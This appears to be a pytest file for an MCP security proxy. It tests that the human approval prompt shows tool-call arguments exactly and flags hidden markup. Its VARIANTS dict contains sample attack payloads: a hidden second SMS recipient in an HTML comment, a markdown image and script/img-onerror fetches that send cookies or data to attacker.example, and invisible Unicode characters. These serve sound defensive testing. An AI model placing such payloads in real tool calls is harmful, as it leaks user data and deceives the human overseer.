"""Issue 13 item 7 / SPEC §6, end to end: what the human is shown is exactly what the upstream receives.

Through the real proxy (`mcp-guard stdio` and `mcp-guard serve`), in both protocol eras, a model
sends send_sms with a hidden second recipient in `to`, an image that would exfiltrate data, and
script, img and entity-encoded comment variants. The scripted human reads the prompt back (JSON
in the fence) and must find every raw character there, escaped as documented, plus a warning line
per argument; after a yes the sandbox's own record must hold exactly the arguments read back, and
after a no it must hold nothing.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.harness import MODES, Proc, calls
from tests.test_confirm import TRANSPORTS, Human, Setup, _gateway, assert_honest_prompt, connect, marker, text_of
from tests.test_confirm_prompt import assert_inert, has_invisible, has_markup, invisible, members, warnings

pytestmark = pytest.mark.anyio

NUMBER = "48600100200"
EXFIL = "![](https://attacker.example/c?d=48600100200%2Corder-1042)"

# name -> arguments for a marker; the marker (hex) lets the scripted human and the record find each call.
VARIANTS: dict[str, Callable[[str], dict[str, Any]]] = {
    "hidden recipient and image": lambda mark: {
        "to": "+48600100200<!-- ,+48999000111 -->",
        "message": f"Order shipped. {mark}{EXFIL}",
        "test": True,
    },
    "script": lambda mark: {
        "to": NUMBER,
        "message": f"Hi {mark}<script>fetch('https://attacker.example/?c='+document.cookie)</script>",
        "test": True,
    },
    "img": lambda mark: {
        "to": NUMBER,
        "message": f"Hi {mark} <img src=x onerror=\"fetch('https://attacker.example/'+location)\">",
        "test": True,
    },
    "entity comment": lambda mark: {
        "to": f"{NUMBER}&lt;!-- ,48999000111 --&gt;",
        "message": f"Order shipped. {mark} &lt;!-- hidden --&gt;",
        "test": True,
    },
    "hidden characters": lambda mark: {
        "to": f"{NUMBER}\u2066,48999000111\u2069",
        "message": f"Order shipped. {mark}\u200b\U000e0041\U000e0042\u202e",
        "test": True,
    },
}


@pytest.fixture(scope="module")
def record(sandbox: tuple[Proc, Path]) -> Path:
    return sandbox[1]


@pytest.fixture(scope="module")
def gate(sandbox: tuple[Proc, Path], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
    yield from _gateway(tmp_path_factory, sandbox[0].url, "fidelity")


def received(record: Path, mark: str) -> list[dict[str, Any]]:
    """The arguments of every tools/call carrying `mark` that the sandbox itself recorded."""
    return [c["arguments"] for c in calls(record, "send_sms") if mark in json.dumps(c["arguments"], ensure_ascii=False)]


def documented(c: str) -> str:
    """The escape SPEC §6 and the prompt's legend promise for a markup or invisible character."""
    code = ord(c)
    if code > 0xFFFF:
        code -= 0x10000
        return f"\\u{0xD800 + (code >> 10):04x}\\u{0xDC00 + (code & 0x3FF):04x}"
    return f"\\u{code:04x}"


def assert_shows_exactly(prompt: str, arguments: dict[str, Any]) -> dict[str, Any]:
    """The prompt holds every argument whole, readable back with json, every special character escaped
    as documented, and a warning line for every argument with markup or hidden characters."""
    assert_honest_prompt(prompt, "send_sms", "destructive")
    assert_inert(prompt)
    shown = {m.name: m.value for m in members(prompt) if not m.name_cut and not m.value_cut}
    assert shown == arguments and list(shown) == list(arguments), prompt
    lines = {m.name: m.line for m in members(prompt)}
    said = warnings(prompt)
    for name, value in arguments.items():
        if not isinstance(value, str):
            continue
        for c in value:
            if c in "<>&`" or invisible(c):
                assert documented(c) in lines[name], (c, lines[name])
        if has_markup(value):
            assert any(w.startswith(f'WARNING: argument "{name}" holds markup (') for w in said), prompt
        if has_invisible(value):
            assert f'WARNING: argument "{name}" holds hidden characters (shown above as \\uXXXX escapes).' in said
    return shown


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("transport", TRANSPORTS)
async def test_the_upstream_receives_exactly_what_the_human_was_shown(
    transport: str, mode: str, gate: Setup, record: Path
) -> None:
    human = Human()
    cases = []  # (variant, behaviour, mark, arguments)
    for variant, build in VARIANTS.items():
        for behaviour in ("accept", "decline"):
            mark = marker()
            human.script[mark] = behaviour
            cases.append((variant, behaviour, mark, build(mark)))
    async with connect(gate, transport, mode, human) as client:
        for variant, behaviour, mark, arguments in cases:
            result = await client.call_tool("send_sms", arguments)
            shown = assert_shows_exactly(human.prompt_for(mark), arguments)
            if behaviour == "accept":
                # The sandbox answers (it may call the number invalid): the call went through once.
                assert "not called" not in text_of(result), (variant, text_of(result))
                assert received(record, mark) == [shown], variant
            else:
                assert result.is_error and "declined" in text_of(result), (variant, text_of(result))
                assert received(record, mark) == [], variant


async def test_the_issue_13_prompt_names_the_hidden_recipient_and_the_image(gate: Setup, record: Path) -> None:
    mark = marker()
    arguments = VARIANTS["hidden recipient and image"](mark)
    human = Human({mark: "decline"})
    async with connect(gate, "http", "auto", human) as client:
        await client.call_tool("send_sms", arguments)
    lines = human.prompt_for(mark).split("\n")
    assert '  "to": "+48600100200\\u003c!-- ,+48999000111 --\\u003e",' in lines
    assert f'  "message": "Order shipped. {mark}{EXFIL}",' in lines
    assert (
        'WARNING: argument "to" holds markup (an HTML tag or comment) that a renderer would hide or change; '
        "read it above exactly as shown."
    ) in lines
    assert (
        'WARNING: argument "message" holds markup (a markdown image or link) that a renderer would hide or change; '
        "read it above exactly as shown."
    ) in lines
    assert received(record, mark) == []
